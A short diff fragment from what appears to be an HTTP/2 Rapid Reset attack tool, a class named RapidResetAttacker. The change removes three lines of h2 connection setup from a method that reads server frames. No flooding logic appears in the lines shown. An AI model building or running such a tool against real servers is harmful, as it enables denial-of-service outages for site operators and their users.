@@ -68,9 +68,6 @@ class RapidResetAttacker:
 
     def _read(self):
         """Reads what the server sends, acknowledging its SETTINGS, until the connection ends."""
-        connection = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
-        connection.initiate_connection()
-        connection.data_to_send()
         buffered = b""
         acknowledged = False
         while True:
